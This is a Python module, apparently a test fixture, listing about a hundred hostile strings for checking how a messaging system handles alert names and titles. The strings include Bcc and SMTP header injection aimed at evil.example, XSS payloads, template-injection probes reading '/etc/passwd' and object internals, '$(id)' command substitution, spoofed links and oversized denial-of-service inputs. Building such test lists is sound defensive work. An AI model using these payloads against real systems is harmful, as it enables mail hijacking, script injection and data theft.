"""A hundred texts that somebody may put into an alert, a name or a title, hoping that a message carries them out."""

_HEADERS = (
    "a\r\nBcc: eve@evil.example", "a\nBcc: eve@evil.example", "a\rBcc: eve@evil.example",
    "a\r\n\r\n<html>", "a\u2028Bcc: eve@evil.example", "a\u2029Bcc: x@y.z", "a\x85Bcc: x@y.z", "a\x0bBcc: x@y.z",
    "a\x0cBcc: x@y.z", "a\x1cBcc: x@y.z", "a\x1dBcc: x@y.z", "a\x1eBcc: x@y.z", "a\x00Bcc: x@y.z",
    "=?utf-8?q?x=0D=0ABcc:_eve=40evil.example?=", "=?utf-8?b?DQpCY2M6IGV2ZUBldmlsLmV4YW1wbGU=?=",
    "=?iso-8859-1?q?=0ABcc:x?= =?utf-8?q?=0D?=", "a\r\n Bcc: folded@evil.example", "a\r\n\tBcc: folded@evil.example",
    "\r\n.\r\nMAIL FROM:<evil@evil.example>\r\n", "\n.\n", ".", "..", "\r\n..\r\n", "From eve Mon Jan 1",
    "Subject: other", "a%0d%0aBcc:x", "a\\r\\nBcc: x", "Content-Type: text/html", "--==boundary==", "\ufeffBcc: x",
)  # fmt: skip
_MARKUP = (
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>",
    "<a href='javascript:1'>x</a>",
    "</p></body></html><h1>Other</h1>", '"><b>', "'><b>", "<!--", "-->", "<![CDATA[", "]]>",
    "<style>*{display:none}</style>",
    "<base href=https://evil.example/>", "<meta http-equiv=refresh content=0>", "<form action=https://evil.example>",
    "<iframe src=https://evil.example>", "&lt;script&gt;", "&#60;script&#62;", "&amp;lt;b&amp;gt;", "<b",
    "<\x00script>",
    "<scr\u00adipt>", "\uff1cscript\uff1e", "<plaintext>", "<template>", "<link rel=stylesheet href=//evil.example>",
    "<input autofocus onfocus=alert(1)>", "<math><mi//xlink:href='data:x'>", "<table background=//evil.example>",
    "<div style=background:url(//evil.example)>",
)  # fmt: skip
_TEMPLATES = (
    "{{ 7*7 }}", "{% raw %}", "{% endraw %}", "{% for a in range(10**9) %}", "{{ ''.__class__ }}", "{{ config }}",
    "{{ self }}", "{{ link }}{{ link }}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{{{{", "}}}}", "{#", "#}",
    "{% include '/etc/passwd' %}", "{{ recipient.name.__init__.__globals__ }}", "%s%s%s%n", "{0.__class__}", "$(id)",
)  # fmt: skip
_LINKS = (
    "https://evil.example/login",
    "HTTP://EVIL.EXAMPLE",
    "http://evil.example@casewright.example/",
    "javascript:alert(1)",
    "eve@evil.example",
    "https://evil.example\u202e/moc.elpmaxe",
    "//evil.example",
)
_SIZES = (
    "x" * 1_000_000, "\u0301" * 100_000, "\U0001f9d1\u200d" * 50_000, "\n" * 500_000, "a b " * 200_000, "\u202e" * 1000,
    "", " ", "\t", "\ud800", "\udfff\ud800", "\U0010ffff", "\x7f\x1b[2J\x1b]0;owned\x07",
)  # fmt: skip

HOSTILE = (*_HEADERS, *_MARKUP, *_TEMPLATES, *_LINKS, *_SIZES)
